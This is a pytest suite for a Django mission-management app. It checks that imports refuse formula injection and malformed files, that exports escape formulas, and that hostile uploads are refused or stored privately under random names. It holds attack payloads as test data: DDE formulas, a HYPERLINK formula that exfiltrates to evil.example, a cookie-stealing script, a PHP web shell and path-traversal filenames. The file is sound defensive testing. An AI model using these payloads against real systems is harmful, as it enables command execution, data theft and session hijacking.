"""Hostile input: spreadsheets built to attack (formula injection, wrong encodings, huge or
malformed files, duplicate keys, thousands of bad rows) are refused with a French message and
write nothing; exports neutralise formulas; uploaded files with a spoofed name or type, too
big, or with a path in their name are refused or stored under a random name in the private
storage."""

import csv
import datetime
import html
import io
import random
from pathlib import Path

import openpyxl
import pytest
from django.conf import settings
from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from imagin_site.common.uploads import MAX_UPLOAD_SIZE
from missions.enums import PartNature
from missions.io.cells import FORMULA_ERROR
from missions.models import Centre, DossierFinancier, Intervenant, Mission, TravelLeg
from missions.services.convocations import issue_mission
from tests.factories import (
    CentreFactory,
    DossierFactory,
    IntervenantFactory,
    MissionFactory,
    commune,
    gestionnaire,
)

pytestmark = pytest.mark.django_db

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 48
PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
CENTRE_HEADERS = ["Code UAI", "Nom", "Commune"]
GOOD_CENTRES = [
    ["9849001A", "Lycée de Taravao", "Taiarapu-Est"],
    ["9849002B", "Collège de Paea", "Paea"],
    ["9849003C", "Lycée de Uturoa", "Uturoa"],
]
FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
    "\t=1+1",
    "\r=1+1",
    "'=cmd|' /C calc'!A0",  # our export's escape, removed on import: still a formula
    "=1+1",
]


def csv_bytes(rows, headers=CENTRE_HEADERS, encoding="utf-8-sig", delimiter=";"):
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter)
    writer.writerow(headers)
    writer.writerows(rows)
    return out.getvalue().encode(encoding)


def xlsx_bytes(rows, headers=CENTRE_HEADERS):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(headers)
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


@pytest.fixture
def staff(client):
    client.force_login(gestionnaire())
    return client


def counts():
    return (Centre.objects.count(), Intervenant.objects.count(), Mission.objects.count())


def upload(client, data, name="centres.csv", kind="centres"):
    file = SimpleUploadedFile(name, data, content_type="text/csv")
    return client.post(reverse("missions_import"), {"kind": kind, "file": file})


def upload_and_confirm(client, data, name="centres.csv", kind="centres"):
    """Upload (dry run), then try to confirm the import for real; returns both answers."""
    preview = upload(client, data, name, kind)
    assert preview.status_code == 200
    if "token" not in preview.context:  # refused at upload: nothing to confirm
        return preview, None
    confirm = client.post(
        reverse("missions_import_confirm"), {"token": preview.context["token"], "confirm": ""}
    )
    return preview, confirm


def page_text(response):
    return html.unescape(response.content.decode())


def refused_at_upload(response):
    return html.unescape(str(response.context["form"].errors.get("file", "")))


# Formula injection


def formula_params():
    for fmt in ("csv", "xlsx"):
        for payload in FORMULAS:
            yield pytest.param(fmt, payload, id=f"{fmt}-{payload!r}")


@pytest.mark.parametrize(("fmt", "payload"), list(formula_params()))
def test_import__formula_injection_is_refused_and_writes_nothing(staff, payload, fmt):
    before = counts()
    rows = [list(row) for row in GOOD_CENTRES]
    rows[1][1] = payload
    data = csv_bytes(rows) if fmt == "csv" else xlsx_bytes(rows)
    preview, confirm = upload_and_confirm(staff, data, name=f"centres.{fmt}")
    if confirm is None:  # a control character the reader refuses outright
        assert refused_at_upload(preview)
    else:
        report = preview.context["report"]
        assert [(e.line, e.column, e.message) for e in report.errors] == [(3, "Nom", FORMULA_ERROR)]
        assert confirm.status_code == 200  # the preview again, with the errors
        assert "rien n'a été importé" in page_text(confirm)
    assert counts() == before


@pytest.mark.parametrize("payload", [" =1+1", "\n=cmd|' /C calc'!A0", "  @SUM(A1)"])
def test_import__whitespace_before_a_formula_does_not_bypass_the_check(staff, payload):
    rows = [list(row) for row in GOOD_CENTRES]
    rows[1][1] = payload
    preview, _confirm = upload_and_confirm(staff, csv_bytes(rows))
    stored = list(Centre.objects.filter(uai="9849002B").values_list("name", flat=True))
    assert not preview.context["report"].ok or not stored
    assert not [name for name in stored if name[:1] in ("=", "+", "-", "@")], stored


def test_import__formula_in_an_ignored_column_is_refused(staff):
    before = counts()
    rows = [[*row, "ok"] for row in GOOD_CENTRES]
    rows[2][3] = "=cmd|' /C calc'!A0"
    preview, confirm = upload_and_confirm(staff, csv_bytes(rows, [*CENTRE_HEADERS, "Remarque"]))
    assert any("Remarque" in str(e.message) for e in preview.context["report"].errors) or any(
        "Remarque" in e for e in preview.context["report"].general_errors
    )
    assert "rien n'a été importé" in page_text(confirm)
    assert counts() == before


@pytest.mark.parametrize("payload", ["=cmd|' /C calc'!A0", "@SUM(A1)", "+A1*2"])
def test_import__formula_in_an_intervenant_row_is_refused(staff, payload):
    before = counts()
    headers = ["Identifiant", "Civilité", "Nom de naissance", "Prénom",
               "Commune de résidence", "Catégorie", "Courriel"]  # fmt: skip
    rows = [
        ["PF900001", "Mme", "Teriierooiterai", "Hinano", "Papeete", "education_pf", "a@x.pf"],
        ["PF900002", "M.", "Tetuanui", payload, "Papeete", "education_pf", "b@x.pf"],
    ]
    preview, confirm = upload_and_confirm(
        staff, csv_bytes(rows, headers), name="i.csv", kind="intervenants"
    )
    assert [(e.line, e.column) for e in preview.context["report"].errors] == [(3, "Prénom")]
    assert "rien n'a été importé" in page_text(confirm)
    assert counts() == before


# Unreadable or malformed files: refused at upload, with the reason in French.

rng = random.Random(7)
GARBAGE = bytes(rng.randrange(256) for _ in range(20_000))
GARBAGE_NO_NUL = bytes(b or 0x81 for b in GARBAGE)  # 0x81: undefined in Windows-1252

UNREADABLE = [
    ("utf16-bom", "centres.csv", csv_bytes(GOOD_CENTRES, encoding="utf-16"),
     "pas un fichier texte CSV"),
    ("utf16-le", "centres.csv", csv_bytes(GOOD_CENTRES, encoding="utf-16-le"),
     "pas un fichier texte CSV"),
    ("utf32", "centres.csv", csv_bytes(GOOD_CENTRES, encoding="utf-32"),
     "pas un fichier texte CSV"),
    ("binary-garbage", "centres.csv", GARBAGE, "pas un fichier texte CSV"),
    ("garbage-no-nul", "centres.csv", GARBAGE_NO_NUL, "Encodage non reconnu"),
    ("garbage-as-xlsx", "centres.xlsx", GARBAGE, "pas un classeur XLSX valide"),
    ("corrupt-zip-xlsx", "centres.xlsx", b"PK\x03\x04" + GARBAGE, "Classeur XLSX illisible"),
    ("xlsx-named-csv", "centres.csv", xlsx_bytes(GOOD_CENTRES), "pas un fichier texte CSV"),
    ("csv-named-xlsx", "centres.xlsx", csv_bytes(GOOD_CENTRES), "pas un classeur XLSX valide"),
    ("exe-extension", "centres.exe", csv_bytes(GOOD_CENTRES), "Format non pris en charge"),
    ("double-extension", "centres.csv.exe", csv_bytes(GOOD_CENTRES),
     "Format non pris en charge"),
    ("no-extension", "centres", csv_bytes(GOOD_CENTRES), "Format non pris en charge"),
    ("empty", "centres.csv", b"", "vide"),
    ("header-only", "centres.csv", csv_bytes([]), "Aucune ligne"),
    ("duplicate-column", "centres.csv",
     csv_bytes([["9849001A", "A", "Papeete", "B"]], [*CENTRE_HEADERS, "Nom"]),
     "Colonne en double : Nom"),
    ("unnamed-column", "centres.csv",
     csv_bytes([["9849001A", "A", "Papeete", "x", "y"]], [*CENTRE_HEADERS, "", "Fin"]),
     "n'a pas de nom"),
    ("extra-cells", "centres.csv", b"Code UAI;Nom;Commune\n9849001A;A;Papeete;x\n",
     "plus de cellules que de colonnes"),
    ("unclosed-quote", "centres.csv", b'Code UAI;Nom;Commune\n"9849001A;A;Papeete\n',
     "Aucune ligne"),
]  # fmt: skip


@pytest.mark.parametrize(
    ("name", "data", "message"),
    [pytest.param(name, data, message, id=case) for case, name, data, message in UNREADABLE],
)
def test_import__unreadable_file_is_refused_at_upload(staff, name, data, message):
    before = counts()
    response, confirm = upload_and_confirm(staff, data, name=name)
    if confirm is not None:  # read as a table: then refused row by row, nothing imported
        assert message in " ".join(response.context["report"].general_errors) or (
            not response.context["report"].ok
        )
        assert "rien n'a été importé" in page_text(confirm)
    else:
        assert message in refused_at_upload(response)
    assert counts() == before


def test_import__file_over_10_mb_is_refused(staff):
    before = counts()
    row = "9849001A;Lycée de Taravao;Taiarapu-Est\n".encode()
    data = b"Code UAI;Nom;Commune\n" + row * (10 * 1024 * 1024 // len(row) + 1)
    assert len(data) > 10 * 1024 * 1024
    response, confirm = upload_and_confirm(staff, data)
    assert confirm is None
    assert "Fichier trop volumineux : 10 Mo au plus." in refused_at_upload(response)
    assert counts() == before


def test_import__missing_columns_are_named_and_nothing_written(staff):
    before = counts()
    preview, confirm = upload_and_confirm(staff, csv_bytes([["Lycée", "x"]], ["Nom", "Adresse"]))
    assert preview.context["report"].general_errors == [
        "Colonnes obligatoires absentes : Code UAI, Commune."
    ]
    assert "rien n'a été importé" in page_text(confirm)
    assert counts() == before


def test_import__duplicate_keys_in_the_file_are_refused(staff):
    before = counts()
    rows = [*GOOD_CENTRES, ["9849001a", "Autre nom", "Papeete"]]  # same UAI, other case
    preview, confirm = upload_and_confirm(staff, csv_bytes(rows))
    errors = preview.context["report"].errors
    assert errors and {e.line for e in errors} == {5}
    assert "rien n'a été importé" in page_text(confirm)
    assert counts() == before


def test_import__10000_bad_rows_are_all_reported_and_nothing_written(staff):
    before = counts()
    rows = [[f"98{n:05d}Z", f"Centre {n}", "Atlantide"] for n in range(10_000)]
    rows[0] = GOOD_CENTRES[0]  # good rows among them are not imported either
    preview, confirm = upload_and_confirm(staff, csv_bytes(rows))
    report = preview.context["report"]
    assert report.invalid == 9_999
    assert {e.column for e in report.errors} == {"Commune"}
    assert all("Commune" in e.column and e.message for e in report.errors)
    html = preview.content.decode()
    assert "9499" in html.replace("\u202f", "").replace(" ", "")  # "… et 9 499 autres"
    assert "rien n'a été importé" in page_text(confirm)
    assert counts() == before


def test_import__more_than_20000_rows_is_refused_at_upload(staff):
    rows = [[f"98{n:05d}Z", f"Centre {n}", "Papeete"] for n in range(20_001)]
    response, confirm = upload_and_confirm(staff, csv_bytes(rows))
    assert confirm is None
    assert "Plus de 20000 lignes" in refused_at_upload(response)
    assert Centre.objects.filter(uai__startswith="98000").count() == 0


# Exports neutralise formulas.


@pytest.fixture
def poisoned():
    intervenant = IntervenantFactory(
        last_name="=cmd|' /C calc'!A0", first_name="@SUM(1+1)", phone="+A1*2",
        employer="-2+3", address="\t=1+1",
    )  # fmt: skip
    MissionFactory(intervenant=intervenant, epreuve='=HYPERLINK("http://evil.example")')
    return intervenant


POISON = ["=cmd|' /C calc'!A0", "@SUM(1+1)", "+A1*2", "-2+3", "\t=1+1",
          '=HYPERLINK("http://evil.example")']  # fmt: skip


@pytest.mark.parametrize("kind", ["intervenants", "missions"])
def test_export_csv__formula_cells_start_with_an_apostrophe(staff, poisoned, kind):
    response = staff.get(reverse("missions_export", args=[kind, "csv"]))
    assert response.status_code == 200
    text = response.content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not [c for c in dangerous if c not in ("-",)], dangerous
    assert any(c.startswith("'") and c[1:] in POISON for c in cells)


@pytest.mark.parametrize("kind", ["intervenants", "missions"])
def test_export_xlsx__no_formula_cell(staff, poisoned, kind):
    response = staff.get(reverse("missions_export", args=[kind, "xlsx"]))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c.value for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert any(t.startswith("'") and t[1:] in POISON for t in texts)


# Uploads: portal receipts, dossier documents, the public request form.

HTML = b"<html><script>alert(document.cookie)</script></html>"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
REFUSED_UPLOADS = [
    ("html-as-pdf", "facture.pdf", HTML, "application/pdf", "Format non accepté"),
    ("exe-as-png", "billet.png", EXE, "image/png", "Format non accepté"),
    ("svg-as-png", "billet.png", SVG, "image/png", "Format non accepté"),
    ("php", "shell.php", b"<?php system($_GET['c']); ?>", "application/pdf",
     "Format non accepté"),
    ("empty", "vide.pdf", b"", "application/pdf", "Le fichier soumis est vide"),
    ("oversized", "gros.pdf", PDF + b"0" * MAX_UPLOAD_SIZE, "application/pdf",
     "taille maximale de 5 Mo"),
]  # fmt: skip
ACCEPTED_UPLOADS = [
    ("path-traversal", "../../etc/passwd.pdf", PDF, "application/pdf", ".pdf"),
    ("absolute-path", "/etc/cron.d/evil.png", PNG, "image/png", ".png"),
    ("pdf-named-html", "page.html", PDF, "text/html", ".pdf"),
    ("png-named-exe", "billet.exe", PNG, "application/x-msdownload", ".png"),
    ("windows-path", "..\\..\\windows\\win.ini.pdf", PDF, "application/pdf", ".pdf"),
]  # fmt: skip


def refused_params():
    return [pytest.param(*case[1:], id=case[0]) for case in REFUSED_UPLOADS]


def accepted_params():
    return [pytest.param(*case[1:], id=case[0]) for case in ACCEPTED_UPLOADS]


def assert_private_random_name(file, extension, content):
    path = Path(file.path).resolve()
    root = Path(settings.PRIVATE_MEDIA_ROOT).resolve()
    assert path.is_relative_to(root), path
    assert ".." not in file.name and "passwd" not in file.name and "\\" not in file.name
    assert len(path.stem) == 32 and path.suffix == extension, file.name  # a uuid4 hex
    assert path.read_bytes() == content


@pytest.fixture
def today(monkeypatch):
    day = datetime.date(2026, 7, 1)
    monkeypatch.setattr("django.utils.timezone.localdate", lambda *args, **kwargs: day)
    return day


@pytest.fixture
def mission(today):
    intervenant = IntervenantFactory(home_commune=commune("Uturoa"))
    DossierFactory(intervenant=intervenant)
    mission = MissionFactory(intervenant=intervenant, centre=CentreFactory())
    issue_mission(mission, today=datetime.date(2026, 6, 30))
    return mission


def post_leg(client, mission, name, content, content_type):
    client.force_login(mission.intervenant.user)
    data = {
        "trajet-date": "2026-06-16", "trajet-departure_time": "06:00",
        "trajet-arrival_time": "07:00", "trajet-from_commune": commune("Uturoa").pk,
        "trajet-to_commune": commune("Papeete").pk, "trajet-mode": "avion",
        "trajet-fare": "18000",
        "trajet-receipt": SimpleUploadedFile(name, content, content_type=content_type),
    }  # fmt: skip
    return client.post(reverse("portal:add_line", args=[mission.pk, "trajet"]), data)


@pytest.mark.parametrize(("name", "content", "content_type", "message"), refused_params())
def test_portal_receipt__hostile_upload_is_refused(client, mission, name, content,
                                                   content_type, message):  # fmt: skip
    response = post_leg(client, mission, name, content, content_type)
    assert response.status_code == 400
    assert message in page_text(response)
    assert not TravelLeg.objects.exists()


@pytest.mark.parametrize(("name", "content", "content_type", "extension"), accepted_params())
def test_portal_receipt__stored_under_a_random_private_name(client, mission, name, content,
                                                            content_type, extension):  # fmt: skip
    response = post_leg(client, mission, name, content, content_type)
    # Saved: the mission page answers directly (issue 16), not the form again (400).
    assert response.status_code == 200, response.content.decode()[:2000]
    leg = TravelLeg.objects.get(part__etat__mission=mission, part__nature=PartNature.TRAVEL)
    assert_private_random_name(leg.receipt, extension, content)
    download = client.get(reverse("portal:receipt", args=["trajet", leg.pk]))
    assert download["Content-Disposition"].startswith("attachment")
    assert f'filename="justificatif-trajet-{leg.pk}{extension}"' in download["Content-Disposition"]


def post_dossier(client, mission, name, content, content_type):
    client.force_login(mission.intervenant.user)
    dossier = mission.intervenant.dossier
    data = {
        "iban": dossier.iban, "bic": dossier.bic, "account_holder": dossier.account_holder,
        "social_security_number": "", "vehicle_horsepower": "5",
        "rib_document": SimpleUploadedFile(name, content, content_type=content_type),
    }  # fmt: skip
    return client.post(reverse("portal:dossier"), data)


@pytest.mark.parametrize(("name", "content", "content_type", "message"), refused_params())
def test_dossier_document__hostile_upload_is_refused(client, mission, name, content,
                                                     content_type, message):  # fmt: skip
    response = post_dossier(client, mission, name, content, content_type)
    assert response.status_code == 200  # the form again, with the error
    assert message in page_text(response)
    assert not DossierFinancier.objects.get(pk=mission.intervenant.dossier.pk).rib_document


@pytest.mark.parametrize(("name", "content", "content_type", "extension"), accepted_params())
def test_dossier_document__stored_under_a_random_private_name(client, mission, name, content,
                                                              content_type, extension):  # fmt: skip
    response = post_dossier(client, mission, name, content, content_type)
    assert response.status_code == 302, response.content.decode()[:2000]
    dossier = DossierFinancier.objects.get(intervenant=mission.intervenant)
    assert_private_random_name(dossier.rib_document, extension, content)


# The public request form (anonymous visitors).


@pytest.fixture
def request_page():
    from tests.regulations.factories import request_page

    cache.clear()  # the form's rate limit counts per IP in the cache
    yield request_page()
    cache.clear()


def post_request(client, page, name, content, content_type):
    from tests.regulations.factories import valid_form_data

    upload = SimpleUploadedFile(name, content, content_type=content_type)
    return client.post(page.url, {**valid_form_data(), "supporting_document": upload})


@pytest.mark.parametrize(("name", "content", "content_type", "message"), refused_params())
def test_public_request__hostile_upload_is_refused(client, request_page, name, content,
                                                   content_type, message):  # fmt: skip
    from regulations.models import IntervenantRequest

    response = post_request(client, request_page, name, content, content_type)
    assert response.status_code == 200
    assert message in page_text(response)
    assert not IntervenantRequest.objects.exists()


@pytest.mark.parametrize(
    ("name", "content", "content_type", "extension"),
    [
        # The stored name takes the extension of the content, never the client's
        # (a PDF named page.html is stored as .pdf).
        pytest.param(*case[1:], id=case[0])
        for case in ACCEPTED_UPLOADS
    ],
)  # fmt: skip
def test_public_request__stored_under_a_random_private_name(client, request_page, name,
                                                            content, content_type,
                                                            extension):  # fmt: skip
    from regulations.models import IntervenantRequest

    response = post_request(client, request_page, name, content, content_type)
    assert response.status_code == 302
    assert_private_random_name(IntervenantRequest.objects.get().supporting_document,
                               extension, content)  # fmt: skip
